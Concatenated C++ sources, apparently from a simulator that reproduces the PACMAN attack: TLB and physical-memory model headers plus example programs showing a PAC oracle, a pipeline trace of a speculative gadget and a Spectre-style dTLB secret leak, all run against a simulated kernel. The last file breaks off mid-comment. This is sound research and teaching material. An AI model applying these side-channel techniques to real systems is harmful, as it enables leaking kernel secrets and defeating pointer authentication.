    /** Whole-array mutation: disarm until the next capture. */
    void journalBulk() { journalOff_ = true; }

    /** Stamp a fresh generation label on @p set (structural change). */
    void bumpSet(uint64_t set) { setGen_[set] = ++genCounter_; }

    SetAssocConfig cfg_;
    ReplPolicy policy_;
    Random *rng_;
    std::vector<Way> ways_;
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;

    // Per-set generation labels (see setGen()); the counter is never
    // captured or rewound (see Cache).
    std::vector<uint64_t> setGen_;
    uint64_t genCounter_ = 0;

    // Dirty-way journal (see Cache). Disarmed until first capture.
    mutable bool journalOff_ = true;
    mutable uint64_t journalEpoch_ = 0;
    mutable std::vector<uint32_t> journal_;
    mutable std::vector<uint8_t> journaled_;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_TLB_HH
