/**
 * @file
 * Set-associative TLB model.
 *
 * Entries are tagged with the virtual page number and an address-space
 * id (user vs kernel), so user and kernel translations coexist in the
 * shared structures — exactly the property the cross-privilege-level
 * Prime+Probe channel in the paper relies on.
 */

#ifndef PACMAN_MEM_TLB_HH
#define PACMAN_MEM_TLB_HH

#include <cstdint>
#include <optional>
#include <vector>

#include "base/random.hh"
#include "mem/config.hh"
#include "mem/physmem.hh"

namespace pacman::mem
{

/** Address-space id distinguishing translations in shared TLBs. */
enum class Asid : uint8_t
{
    User = 0,
    Kernel = 1,
};

/** A cached translation. */
struct TlbEntry
{
    uint64_t vpn = 0;    //!< virtual page number
    Asid asid = Asid::User;
    uint64_t ppn = 0;    //!< physical page number
    bool writable = false;
    bool executable = false;
};

/** One TLB structure (an L1 iTLB, the L1 dTLB, or the L2 TLB). */
class Tlb
{
  public:
    Tlb(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng);

    /**
     * Look up a translation; refreshes LRU state on hit.
     * @return the entry, or nullopt on miss.
     */
    std::optional<TlbEntry> lookup(uint64_t vpn, Asid asid);

    /** Probe without touching LRU state (test/verification use). */
    bool contains(uint64_t vpn, Asid asid) const;

    /**
     * Insert a translation; evicts the set's victim if full.
     * @return the evicted valid entry, if any (used to model the
     *         iTLB -> dTLB non-inclusive spill from Section 7.3).
     */
    std::optional<TlbEntry> insert(const TlbEntry &entry);

    /** Remove a translation if present; @return it. */
    std::optional<TlbEntry> remove(uint64_t vpn, Asid asid);

    /** Invalidate everything (e.g. on key rotation / boot). */
    void flushAll();

    /**
     * Invalidate every translation tagged @p asid (a context switch
     * flushing one address space while the other survives).
     * @return the number of entries invalidated.
     */
    unsigned flushAsid(Asid asid);

    /** Invalidate @p asid's translations in set @p set only (a
     *  partial flush). @return the number invalidated. */
    unsigned flushSetAsid(uint64_t set, Asid asid);

    /** Set index for @p vpn. */
    uint64_t setIndex(uint64_t vpn) const;

    const SetAssocConfig &config() const { return cfg_; }
    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

    /** Hit fraction since construction / the last resetStats(). */
    double hitRate() const
    {
        const uint64_t total = hits_ + misses_;
        return total ? double(hits_) / double(total) : 0.0;
    }

    /**
     * Zero the hit/miss counters and rebase the LRU clock (see
     * Cache::resetStats — replacement behaviour is unchanged).
     */
    void resetStats();

  private:
    struct Way
    {
        bool valid = false;
        TlbEntry entry;
        uint64_t lruStamp = 0;
    };

    Way *find(uint64_t vpn, Asid asid);
    const Way *find(uint64_t vpn, Asid asid) const;
    Way &victimIn(uint64_t set);

    SetAssocConfig cfg_;
    ReplPolicy policy_;
    Random *rng_;
    std::vector<Way> ways_;
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_TLB_HH
