/**
 * @file
 * Sparse physical memory, allocated at page granularity on first
 * touch. The attack's eviction-set sweeps span hundreds of megabytes
 * of address space but only touch a handful of pages per stride, so
 * sparse backing keeps the footprint tiny.
 *
 * Two lookup paths back the same byte-level contract:
 *
 *  - The *frame table* (default): two direct-indexed windows of page
 *    frames covering the simulated DRAM ranges (the linear-mapped
 *    user half below 32 GB and the first GB of the kernel half's
 *    frames). Frame chunks are allocated lazily, so a boot costs a
 *    few KB of pointers, and every load/store/fetch resolves with two
 *    compares and two array indexes instead of a hash lookup.
 *  - The *sparse map* fallback: an `unordered_map` keyed by PPN, used
 *    for frames outside the windows (huge synthetic addresses, device
 *    frames) — and for everything when the fast path is disabled
 *    (`fastFrames = false`, the PACMAN_DISABLE_FASTPATH reference
 *    configuration).
 *
 * Both paths are bit-identical by contract; the fast-vs-slow
 * equivalence suite (tests/runner/test_fastpath_equiv.cc) proves it
 * end to end.
 *
 * Every backed page also carries a *write generation*: a label drawn
 * from a single monotonic counter on every write touching the page.
 * The CPU's decoded-instruction cache validates entries against it,
 * which is what makes self-modifying code safe without any
 * invalidation callbacks on the store hot path. Labels are never
 * reused — snapshot restores relabel rewound pages with fresh values
 * rather than rewinding the counter — so a generation match always
 * implies identical page bytes, across restores included; that is
 * what lets the decode cache survive Machine::restore() unflushed.
 */

#ifndef PACMAN_MEM_PHYSMEM_HH
#define PACMAN_MEM_PHYSMEM_HH

#include <cstdint>
#include <memory>
#include <unordered_map>
#include <vector>

#include "isa/pointer.hh"

namespace pacman::mem
{

using isa::Addr;

/** Byte-addressable sparse physical memory. */
class PhysMem
{
  public:
    /**
     * @param fastFrames Use the direct-indexed frame table for DRAM
     *                   frames (default). When false every frame goes
     *                   through the sparse map — the slow reference
     *                   path the equivalence tests compare against.
     */
    explicit PhysMem(bool fastFrames = true);

    /** Read @p size bytes (1..8) as a little-endian integer. */
    uint64_t read(Addr pa, unsigned size) const;

    /** Write the low @p size bytes of @p value, little-endian. */
    void write(Addr pa, uint64_t value, unsigned size);

    /** Convenience 64-bit accessors. */
    uint64_t read64(Addr pa) const { return read(pa, 8); }
    void write64(Addr pa, uint64_t value) { write(pa, value, 8); }

    /** Read a 32-bit instruction word. */
    uint32_t read32(Addr pa) const { return uint32_t(read(pa, 4)); }

    /**
     * Write generation of the page containing @p pa: 0 for a page
     * never written, else the never-reused label of the last write
     * (or restore relabel) that touched it. Consumers (the decode
     * cache) snapshot it and treat any change as an invalidation.
     */
    uint64_t pageGen(Addr pa) const;

    /** Number of pages currently backed. */
    size_t pageCount() const { return backedPages_; }

    /** True when the direct-indexed frame table is in use. */
    bool fastFrames() const { return fast_; }

    /**
     * Full image of every backed page, keyed by PPN, each tagged with
     * a write-generation label. The label is the copy-on-write dirty
     * check on restore: a page whose live generation still equals the
     * stored one has not been written since the snapshot (labels come
     * from a never-rewound counter), so its bytes need no copy. The
     * label is mutable because restore refreshes it after a copy-back
     * — the page then equals the snapshot bytes again under a brand-
     * new label, keeping both the clean-check AND the never-reused
     * guarantee the decode cache relies on.
     */
    struct Snapshot
    {
        struct Page
        {
            mutable uint64_t gen = 0;
            std::unique_ptr<uint8_t[]> data; //!< PageSize bytes
        };
        std::unordered_map<uint64_t, Page> pages;
    };

    /** Page copy/free work a restore actually performed. */
    struct RestoreStats
    {
        size_t pagesCopied = 0; //!< dirty pages whose bytes were rewound
        size_t pagesFreed = 0;  //!< pages backed after the snapshot, dropped
    };

    /** Capture every backed page (full copy; restores are the COW side). */
    Snapshot takeSnapshot() const;

    /**
     * Rewind to @p snap bit-identically: copy back only pages dirtied
     * since the capture, free pages that did not exist then, and
     * re-back captured pages that have since been freed.
     */
    RestoreStats restore(const Snapshot &snap);

  private:
    /** One backed page frame: data plus its write generation. */
    struct Frame
    {
        std::unique_ptr<uint8_t[]> data; //!< PageSize bytes, zeroed
        uint64_t gen = 0;
    };

    // Frame-table geometry. The windows are a fast-path optimization
    // only — frames outside them fall back to the sparse map, so the
    // bounds just need to cover the hot linear-mapped ranges
    // (kernel/layout.hh): user code/data/arenas/JIT below 32 GB, and
    // the kernel image/trampolines/data in the first GB above
    // VA 0xFFFF'8000'0000'0000 (frame 0x2'0000'0000).
    static constexpr uint64_t FramesPerChunk = 1024;
    static constexpr uint64_t UserWindowBase = 0;
    static constexpr uint64_t UserWindowFrames =
        (0x8'0000'0000ull >> isa::PageShift); // 32 GB
    static constexpr uint64_t KernelWindowBase =
        (0x8000'0000'0000ull >> isa::PageShift);
    static constexpr uint64_t KernelWindowFrames =
        (0x1'0000'0000ull >> isa::PageShift); // 1 GB

    /** A lazily allocated group of frames (bounds chunk-vector size). */
    struct Chunk
    {
        Frame frames[FramesPerChunk];
    };

    /** One direct-indexed window of the frame table. */
    struct Window
    {
        uint64_t base = 0;   //!< first PPN covered
        uint64_t frames = 0; //!< PPNs covered
        std::vector<std::unique_ptr<Chunk>> chunks;
    };

    /** Window covering @p ppn, or nullptr. */
    Window *windowFor(uint64_t ppn);
    const Window *windowFor(uint64_t ppn) const;

    /** Frame for @p ppn if backed, else nullptr. Never allocates. */
    const Frame *frameIfPresent(uint64_t ppn) const;

    /** Frame for @p ppn, allocated (zeroed) on demand. */
    Frame &frameFor(uint64_t ppn);

    /** Single-page read/write helpers (no page-boundary crossing). */
    uint64_t readWithin(Addr pa, unsigned size) const;
    void writeWithin(Addr pa, uint64_t value, unsigned size);

    bool fast_;
    Window user_;
    Window kernel_;
    std::unordered_map<uint64_t, Frame> sparse_;
    size_t backedPages_ = 0;

    /** Source of write-generation labels; never rewound, not part of
     *  any snapshot (labels must stay unique across restores). */
    uint64_t genCounter_ = 0;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_PHYSMEM_HH
