/**
 * @file
 * Sparse physical memory, allocated at page granularity on first
 * touch. The attack's eviction-set sweeps span hundreds of megabytes
 * of address space but only touch a handful of pages per stride, so
 * sparse backing keeps the footprint tiny.
 */

#ifndef PACMAN_MEM_PHYSMEM_HH
#define PACMAN_MEM_PHYSMEM_HH

#include <cstdint>
#include <memory>
#include <unordered_map>
#include <vector>

#include "isa/pointer.hh"

namespace pacman::mem
{

using isa::Addr;

/** Byte-addressable sparse physical memory. */
class PhysMem
{
  public:
    /** Read @p size bytes (1..8) as a little-endian integer. */
    uint64_t read(Addr pa, unsigned size) const;

    /** Write the low @p size bytes of @p value, little-endian. */
    void write(Addr pa, uint64_t value, unsigned size);

    /** Convenience 64-bit accessors. */
    uint64_t read64(Addr pa) const { return read(pa, 8); }
    void write64(Addr pa, uint64_t value) { write(pa, value, 8); }

    /** Read a 32-bit instruction word. */
    uint32_t read32(Addr pa) const { return uint32_t(read(pa, 4)); }

    /** Number of pages currently backed. */
    size_t pageCount() const { return pages_.size(); }

  private:
    using Page = std::vector<uint8_t>;

    /** Backing page for @p pa, allocated (zeroed) on demand. */
    Page &pageFor(Addr pa);

    /** Backing page for @p pa if present, else nullptr. */
    const Page *pageIfPresent(Addr pa) const;

    std::unordered_map<uint64_t, Page> pages_;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_PHYSMEM_HH
