/**
 * @file
 * Sparse physical memory, allocated at page granularity on first
 * touch. The attack's eviction-set sweeps span hundreds of megabytes
 * of address space but only touch a handful of pages per stride, so
 * sparse backing keeps the footprint tiny.
 *
 * Two lookup paths back the same byte-level contract:
 *
 *  - The *frame table* (default): two direct-indexed windows of page
 *    frames covering the simulated DRAM ranges (the linear-mapped
 *    user half below 32 GB and the first GB of the kernel half's
 *    frames). Frame chunks are allocated lazily, so a boot costs a
 *    few KB of pointers, and every load/store/fetch resolves with two
 *    compares and two array indexes instead of a hash lookup.
 *  - The *sparse map* fallback: an `unordered_map` keyed by PPN, used
 *    for frames outside the windows (huge synthetic addresses, device
 *    frames) — and for everything when the fast path is disabled
 *    (`fastFrames = false`, the PACMAN_DISABLE_FASTPATH reference
 *    configuration).
 *
 * Both paths are bit-identical by contract; the fast-vs-slow
 * equivalence suite (tests/runner/test_fastpath_equiv.cc) proves it
 * end to end.
 *
 * Every backed page also carries a *write generation*: a label drawn
 * from a single monotonic counter on every write touching the page.
 * The CPU's decoded-instruction and superblock caches validate
 * entries against it, which is what makes self-modifying code safe
 * without any invalidation callbacks on the store hot path. Each
 * label is permanently bound to one byte image of its page: writes
 * draw fresh labels (the counter is never rewound), and a snapshot
 * restore reapplies the captured label together with the captured
 * bytes it has always described. A generation match therefore always
 * implies identical page bytes, across restores included — which is
 * what lets the decode and superblock caches survive
 * Machine::restore() unflushed, with entries from before the capture
 * validating again afterwards.
 */

#ifndef PACMAN_MEM_PHYSMEM_HH
#define PACMAN_MEM_PHYSMEM_HH

#include <cstdint>
#include <cstring>
#include <memory>
#include <unordered_map>
#include <vector>

#include "base/logging.hh"
#include "isa/pointer.hh"

namespace pacman::mem
{

using isa::Addr;

/** Byte-addressable sparse physical memory. */
class PhysMem
{
  public:
    /**
     * @param fastFrames Use the direct-indexed frame table for DRAM
     *                   frames (default). When false every frame goes
     *                   through the sparse map — the slow reference
     *                   path the equivalence tests compare against.
     */
    explicit PhysMem(bool fastFrames = true);

    // read()/write() and the helpers under them are defined inline
    // below the class: they sit on the per-instruction load/store path
    // and the call overhead was measurable in profiles.

    /** Read @p size bytes (1..8) as a little-endian integer. */
    uint64_t read(Addr pa, unsigned size) const;

    /** Write the low @p size bytes of @p value, little-endian. */
    void write(Addr pa, uint64_t value, unsigned size);

    /** Convenience 64-bit accessors. */
    uint64_t read64(Addr pa) const { return read(pa, 8); }
    void write64(Addr pa, uint64_t value) { write(pa, value, 8); }

    /** Read a 32-bit instruction word. */
    uint32_t read32(Addr pa) const { return uint32_t(read(pa, 4)); }

    /**
     * Write generation of the page containing @p pa: 0 for a page
     * never written, else the never-reused label of the last write
     * (or restore relabel) that touched it. Consumers (the decode
     * cache) snapshot it and treat any change as an invalidation.
     */
    uint64_t pageGen(Addr pa) const
    {
        const Frame *f = frameIfPresent(isa::pageNumber(pa));
        return f ? f->gen : 0;
    }

    /** Number of pages currently backed. */
    size_t pageCount() const { return backedPages_; }

    /** True when the direct-indexed frame table is in use. */
    bool fastFrames() const { return fast_; }

    /**
     * Full image of every backed page, keyed by PPN, each tagged with
     * a write-generation label. The label is the copy-on-write dirty
     * check on restore: a page whose live generation still equals the
     * stored one has not been written since the snapshot (labels come
     * from a never-rewound counter), so its bytes need no copy. A
     * dirty page gets the captured bytes AND the captured label back
     * — the label has only ever described exactly these bytes, so
     * decode/superblock cache entries recorded under it revalidate
     * instead of churning through a rebuild after every restore.
     */
    struct Snapshot
    {
        struct Page
        {
            uint64_t gen = 0;
            std::unique_ptr<uint8_t[]> data; //!< PageSize bytes
        };
        std::unordered_map<uint64_t, Page> pages;
    };

    /** Page copy/free work a restore actually performed. */
    struct RestoreStats
    {
        size_t pagesCopied = 0; //!< dirty pages whose bytes were rewound
        size_t pagesFreed = 0;  //!< pages backed after the snapshot, dropped
    };

    /** Capture every backed page (full copy; restores are the COW side). */
    Snapshot takeSnapshot() const;

    /**
     * Visit every backed page in place as fn(ppn, bytes, gen) — no
     * copy, unspecified order. The integrity fingerprint digests
     * pages through this instead of paying takeSnapshot()'s full
     * image. The pointers are valid only until the next write or
     * restore.
     */
    template <typename Fn>
    void
    forEachPage(Fn &&fn) const
    {
        for (const Window *w : {&user_, &kernel_}) {
            for (size_t c = 0; c < w->chunks.size(); ++c) {
                const auto &chunk = w->chunks[c];
                if (!chunk)
                    continue;
                for (uint64_t i = 0; i < FramesPerChunk; ++i) {
                    const Frame &f = chunk->frames[i];
                    if (f.data)
                        fn(w->base + c * FramesPerChunk + i,
                           f.data.get(), f.gen);
                }
            }
        }
        for (const auto &[ppn, f] : sparse_)
            if (f.data)
                fn(ppn, f.data.get(), f.gen);
    }

    /**
     * Rewind to @p snap bit-identically: copy back only pages dirtied
     * since the capture, free pages that did not exist then, and
     * re-back captured pages that have since been freed.
     */
    RestoreStats restore(const Snapshot &snap);

  private:
    /** One backed page frame: data plus its write generation. */
    struct Frame
    {
        std::unique_ptr<uint8_t[]> data; //!< PageSize bytes, zeroed
        uint64_t gen = 0;
    };

    // Frame-table geometry. The windows are a fast-path optimization
    // only — frames outside them fall back to the sparse map, so the
    // bounds just need to cover the hot linear-mapped ranges
    // (kernel/layout.hh): user code/data/arenas/JIT below 32 GB, and
    // the kernel image/trampolines/data in the first GB above
    // VA 0xFFFF'8000'0000'0000 (frame 0x2'0000'0000).
    static constexpr uint64_t FramesPerChunk = 1024;
    static constexpr uint64_t UserWindowBase = 0;
    static constexpr uint64_t UserWindowFrames =
        (0x8'0000'0000ull >> isa::PageShift); // 32 GB
    static constexpr uint64_t KernelWindowBase =
        (0x8000'0000'0000ull >> isa::PageShift);
    static constexpr uint64_t KernelWindowFrames =
        (0x1'0000'0000ull >> isa::PageShift); // 1 GB

    /** A lazily allocated group of frames (bounds chunk-vector size). */
    struct Chunk
    {
        Frame frames[FramesPerChunk];
    };

    /** One direct-indexed window of the frame table. */
    struct Window
    {
        uint64_t base = 0;   //!< first PPN covered
        uint64_t frames = 0; //!< PPNs covered
        std::vector<std::unique_ptr<Chunk>> chunks;
    };

    /** Window covering @p ppn, or nullptr. */
    Window *windowFor(uint64_t ppn);
    const Window *windowFor(uint64_t ppn) const;

    /** Frame for @p ppn if backed, else nullptr. Never allocates. */
    const Frame *frameIfPresent(uint64_t ppn) const;

    /** Frame for @p ppn, allocated (zeroed) on demand. */
    Frame &frameFor(uint64_t ppn);

    /** Single-page read/write helpers (no page-boundary crossing). */
    uint64_t readWithin(Addr pa, unsigned size) const;
    void writeWithin(Addr pa, uint64_t value, unsigned size);

    bool fast_;
    Window user_;
    Window kernel_;
    std::unordered_map<uint64_t, Frame> sparse_;
    size_t backedPages_ = 0;

    /** Source of write-generation labels; never rewound, not part of
     *  any snapshot (labels must stay unique across restores). */
    uint64_t genCounter_ = 0;
};

inline const PhysMem::Window *
PhysMem::windowFor(uint64_t ppn) const
{
    if (!fast_)
        return nullptr;
    if (ppn - user_.base < user_.frames)
        return &user_;
    if (ppn - kernel_.base < kernel_.frames)
        return &kernel_;
    return nullptr;
}

inline PhysMem::Window *
PhysMem::windowFor(uint64_t ppn)
{
    return const_cast<Window *>(
        const_cast<const PhysMem *>(this)->windowFor(ppn));
}

inline const PhysMem::Frame *
PhysMem::frameIfPresent(uint64_t ppn) const
{
    if (const Window *w = windowFor(ppn)) {
        const auto &chunk = w->chunks[(ppn - w->base) / FramesPerChunk];
        if (!chunk)
            return nullptr;
        const Frame &f = chunk->frames[(ppn - w->base) % FramesPerChunk];
        return f.data ? &f : nullptr;
    }
    auto it = sparse_.find(ppn);
    return it == sparse_.end() || !it->second.data ? nullptr : &it->second;
}

inline uint64_t
PhysMem::readWithin(Addr pa, unsigned size) const
{
    const Frame *f = frameIfPresent(isa::pageNumber(pa));
    if (!f)
        return 0;
    const uint8_t *src = f->data.get() + isa::pageOffset(pa);
    uint64_t value = 0;
#if defined(__BYTE_ORDER__) && __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
    // The guest value is the little-endian assembly of src[0..size);
    // on a little-endian host that is a plain byte copy.
    std::memcpy(&value, src, size);
#else
    for (unsigned i = 0; i < size; ++i)
        value |= uint64_t(src[i]) << (8 * i);
#endif
    return value;
}

inline void
PhysMem::writeWithin(Addr pa, uint64_t value, unsigned size)
{
    const uint64_t ppn = isa::pageNumber(pa);
    // Stores overwhelmingly touch already-backed pages; only the
    // first touch takes the allocating frameFor() call.
    Frame *f = const_cast<Frame *>(frameIfPresent(ppn));
    if (!f)
        f = &frameFor(ppn);
    f->gen = ++genCounter_;
    uint8_t *dst = f->data.get() + isa::pageOffset(pa);
#if defined(__BYTE_ORDER__) && __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
    std::memcpy(dst, &value, size);
#else
    for (unsigned i = 0; i < size; ++i)
        dst[i] = uint8_t(value >> (8 * i));
#endif
}

inline uint64_t
PhysMem::read(Addr pa, unsigned size) const
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    const unsigned room = unsigned(isa::PageSize - isa::pageOffset(pa));
    if (size <= room) [[likely]]
        return readWithin(pa, size);
    // Page-straddling access: split at the boundary (at most once,
    // since size <= 8 << PageSize).
    const uint64_t lo = readWithin(pa, room);
    const uint64_t hi = readWithin(pa + room, size - room);
    return lo | (hi << (8 * room));
}

inline void
PhysMem::write(Addr pa, uint64_t value, unsigned size)
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    const unsigned room = unsigned(isa::PageSize - isa::pageOffset(pa));
    if (size <= room) [[likely]] {
        writeWithin(pa, value, size);
        return;
    }
    writeWithin(pa, value, room);
    writeWithin(pa + room, value >> (8 * room), size - room);
}

} // namespace pacman::mem

#endif // PACMAN_MEM_PHYSMEM_HH
