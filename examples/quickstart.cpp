/**
 * @file
 * Quickstart: boot the simulated M1-like machine, look at Pointer
 * Authentication from both sides of the privilege boundary, and run a
 * first guest program.
 *
 *   $ ./example_quickstart
 */

#include <cstdio>

#include "asm/textasm.hh"
#include "attack/runtime.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"
#include "kernel/machine.hh"

using namespace pacman;
using namespace pacman::kernel;

int
main()
{
    // 1. Boot a machine: M1 p-core hierarchy, speculative OoO core,
    //    kernel with fresh per-boot PAC keys.
    Machine machine;
    attack::AttackerProcess proc(machine);
    std::printf("== PACMAN reproduction quickstart ==\n\n");

    // 2. Run a guest program written in PARM64 text assembly.
    const auto prog = asmjit::assembleText(R"(
        // sum the first 10 integers
            movz x0, #0
            movz x1, #0
        loop:
            addi x1, x1, #1
            add  x0, x0, x1
            cmpi x1, #10
            b.ne loop
            hlt #0
    )", UserCodeBase + 0x2000);
    for (size_t i = 0; i < prog.words.size(); ++i) {
        machine.mem().writeVirt(prog.base + 4 * i, prog.words[i], 4);
    }
    const uint64_t sum = machine.call(prog.base);
    std::printf("guest program computed sum(1..10) = %llu\n\n",
                (unsigned long long)sum);

    // 3. Pointer authentication in action: ask the kernel for a
    //    legitimately signed pointer and inspect the PAC bits.
    proc.syscall(SYS_SET_MODIFIER, 0);
    const uint64_t signed_ptr = proc.syscall(SYS_GET_LEGIT_DATA);
    std::printf("kernel-signed pointer : 0x%016llx\n",
                (unsigned long long)signed_ptr);
    std::printf("  address (VA)        : 0x%012llx\n",
                (unsigned long long)isa::vaPart(signed_ptr));
    std::printf("  PAC (bits 63:48)    : 0x%04x\n",
                isa::extPart(signed_ptr));

    // 4. The crash behaviour PA relies on: architecturally using a
    //    wrong PAC panics the kernel.
    proc.syscall(SYS_SET_COND, 1); // arm the gadget's body
    machine.core().setReg(isa::X16, SYS_GADGET_DATA);
    const auto status = machine.runGuest(
        UserCodeBase,
        {isa::withExt(machine.kernel().benignData(), 0xBAD1)});
    std::printf("\ndereferencing a wrongly signed pointer: %s\n",
                status.kind == cpu::ExitKind::KernelPanic
                    ? "KERNEL PANIC (as PA intends)"
                    : "unexpected outcome");

    // 5. The machine state after a panic would re-key on reboot:
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = machine.config().seed + 1;
    Machine rebooted(cfg);
    std::printf("IA key before reboot  : %016llx\n",
                (unsigned long long)
                    machine.kernel().key(crypto::PacKeySelect::IA).k0);
    std::printf("IA key after reboot   : %016llx\n",
                (unsigned long long)
                    rebooted.kernel().key(crypto::PacKeySelect::IA).k0);
    std::printf("\n-> naive PAC brute force cannot work; see "
                "example_pac_oracle_demo for how PACMAN does.\n");
    return 0;
}
