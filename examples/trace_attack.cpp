/**
 * @file
 * Watch one PAC-oracle query through the pipeline tracer: the
 * annotated instruction stream shows the trained branch mispredict,
 * the wrong-path aut + dereference (the leak), and the architectural
 * path sailing past the gadget body — the crash-suppression asymmetry
 * that makes PACMAN work.
 *
 *   $ ./example_trace_attack
 */

#include <cstdio>
#include <vector>

#include "attack/oracle.hh"
#include "isa/disasm.hh"
#include "kernel/layout.hh"

using namespace pacman;
using namespace pacman::attack;
using namespace pacman::kernel;

int
main()
{
    Machine machine;
    AttackerProcess proc(machine);

    OracleConfig cfg;
    PacOracle oracle(proc, cfg);
    const isa::Addr target = BenignDataBase + 37 * isa::PageSize;
    oracle.setTarget(target, 0x42);
    const uint16_t truth = machine.kernel().truePac(
        target, 0x42, crypto::PacKeySelect::DA);

    // Collect the trace of one query with the correct PAC, then keep
    // only the interesting region: kernel instructions around the
    // gadget.
    const isa::Addr gadget_lo =
        machine.kernel().symbol("h_gadget_data");
    const isa::Addr gadget_hi = machine.kernel().symbol("gd_out") + 4;

    std::vector<cpu::TraceRecord> records;
    machine.core().setTraceHook([&](const cpu::TraceRecord &rec) {
        if (rec.el == 1 && rec.pc >= gadget_lo && rec.pc <= gadget_hi)
            records.push_back(rec);
    });
    const unsigned misses = oracle.probeMisses(truth);
    machine.core().setTraceHook(nullptr);

    std::printf("== one oracle query, correct PAC 0x%04x, "
                "%u probe misses ==\n\n", truth, misses);
    std::printf("kernel gadget instruction stream "
                "(A = architectural, S = wrong-path/speculative):\n\n");

    // The last |records| entries cover the final (attack) syscall;
    // earlier ones are the training iterations. Print the tail.
    size_t start = 0;
    unsigned arch_seen = 0;
    for (size_t i = records.size(); i-- > 0;) {
        if (!records[i].speculative &&
            records[i].pc == gadget_lo) {
            // Beginning of the last architectural gadget entry.
            if (++arch_seen == 1) {
                start = i;
                break;
            }
        }
    }
    for (size_t i = start; i < records.size(); ++i) {
        const auto &rec = records[i];
        std::printf("  [%c] %llx: %-28s%s\n",
                    rec.speculative ? 'S' : 'A',
                    (unsigned long long)rec.pc,
                    isa::disassemble(rec.inst, rec.pc).c_str(),
                    rec.speculative &&
                            isa::isPacAuth(rec.inst.op)
                        ? "   <-- verification op (wrong path)"
                        : (rec.speculative &&
                                   isa::instClass(rec.inst.op) ==
                                       isa::InstClass::Load
                               ? "   <-- transmission op (wrong path)"
                               : ""));
    }

    std::printf("\nNote the gadget body (autda + ldr) executes only "
                "with the [S] tag: the branch was trained taken,\n"
                "the architectural run falls through to gd_out, and "
                "the speculative dereference leaves the TLB fill\n"
                "the probe then reads — no architectural pointer use, "
                "no crash.\n");
    return 0;
}
