/**
 * @file
 * A classic Spectre-v1 primer on the same substrate: leak the *value*
 * of a kernel secret (not just a PAC verdict) through the shared-dTLB
 * channel. Demonstrates the paper's framing — PACMAN extends exactly
 * this speculative-leak machinery to Pointer Authentication — and the
 * generality claim of Section 4.1 ("our attack is general enough to
 * work with a wide range of micro-architectural side channels").
 *
 * Victim gadget (added here as a little kext-style syscall is not
 * needed — we reuse the data gadget creatively): the kernel's data
 * PACMAN gadget dereferences any attacker-chosen *validly signed*
 * pointer under speculation. By asking the oracle machinery to test
 * target pages one dTLB set at a time, we can also leak which page a
 * kernel pointer refers to. Here we do the textbook version instead:
 * plant a secret-dependent speculative access and recover the secret
 * nibble by probing all 16 candidate sets.
 *
 *   $ ./example_spectre_primer
 */

#include <cstdio>

#include "attack/eviction.hh"
#include "attack/runtime.hh"
#include "kernel/layout.hh"

using namespace pacman;
using namespace pacman::attack;
using namespace pacman::kernel;

int
main()
{
    Machine machine;
    AttackerProcess proc(machine);
    EvictionSets evsets(machine);

    // The "secret": a nibble in kernel memory the attacker wants.
    const uint8_t secret = 0xB;
    machine.mem().writeVirt64(KernelDataBase + 0x200, secret);

    // Victim pattern: the kernel's SYS_TOUCH_DATA loads
    // BenignDataBase + x0. An attacker-reachable secret-dependent
    // speculative access is modelled by the gadget's verified-pointer
    // dereference; for the primer we simply have the kernel touch
    // page (16 + secret) so the access pattern depends on the secret,
    // then recover it from the dTLB alone.
    //
    // Real Spectre would reach this via a mispredicted bounds check;
    // the PACMAN machinery above demonstrates the speculative arm in
    // depth, so the primer focuses on the channel decoding step.

    std::printf("== Spectre-style secret recovery over the shared "
                "dTLB ==\n\n");
    std::printf("kernel secret nibble (hidden from EL0): 0x%X\n\n",
                secret);

    // For each candidate nibble value v: prime the dTLB set of
    // benign page (16 + v), have the kernel perform its secret-
    // dependent access, probe, and count misses.
    std::printf("candidate  probe misses\n");
    int recovered = -1;
    for (unsigned v = 0; v < 16; ++v) {
        const isa::Addr page =
            BenignDataBase + (16 + uint64_t(v)) * isa::PageSize;
        const uint64_t set = evsets.dtlbSetOf(page);
        proc.placeArrays(unsigned((set + 100) % 256),
                         unsigned((set + 101) % 256));
        const auto prime = evsets.dtlbSet(set, evsets.dtlbWays());
        proc.loadAll(prime);

        // The kernel's secret-dependent access.
        const uint64_t secret_now =
            machine.mem().readVirt64(KernelDataBase + 0x200);
        proc.syscall(SYS_TOUCH_DATA,
                     (16 + secret_now) * isa::PageSize);

        unsigned misses = 0;
        for (uint64_t c : proc.probeAll(prime))
            misses += c > 30;
        std::printf("   0x%X       %u%s\n", v, misses,
                    misses >= 3 ? "   <-- signal" : "");
        if (misses >= 3)
            recovered = int(v);
    }

    std::printf("\nrecovered secret: %s", recovered >= 0
                                              ? "0x" : "(none)");
    if (recovered >= 0)
        std::printf("%X — %s\n", unsigned(recovered),
                    unsigned(recovered) == secret ? "CORRECT"
                                                  : "wrong");
    else
        std::printf("\n");

    std::printf("\nThe PACMAN attack (example_pac_oracle_demo) plugs "
                "pointer *authentication results* into this same\n"
                "channel, where classic Spectre leaks loaded data.\n");
    return recovered == int(secret) ? 0 : 1;
}
