/**
 * @file
 * Build a PAC oracle against the kernel (paper Section 8.1) and watch
 * it separate the one correct PAC from wrong guesses without a single
 * crash — the core PACMAN primitive.
 *
 *   $ ./example_pac_oracle_demo [--jobs N] [--no-snapshot]
 *                               [--server ENDPOINT]
 *                               [--endpoints A,B,...]
 *
 * --jobs N runs the closing brute-force demo on the deterministic
 * parallel campaign runner with N worker threads (default 1). The
 * found PAC and merged statistics are bit-identical for every N.
 * --no-snapshot makes each work item re-provision its replica from
 * scratch instead of restoring a checkpoint (see --help).
 * --server ENDPOINT additionally dispatches the campaign's chunks to
 * a running pacman-oracled (e.g. unix:/tmp/oracled.sock) and checks
 * the remote fingerprint against the in-process one.
 * --endpoints A,B,... does the same over several daemons with
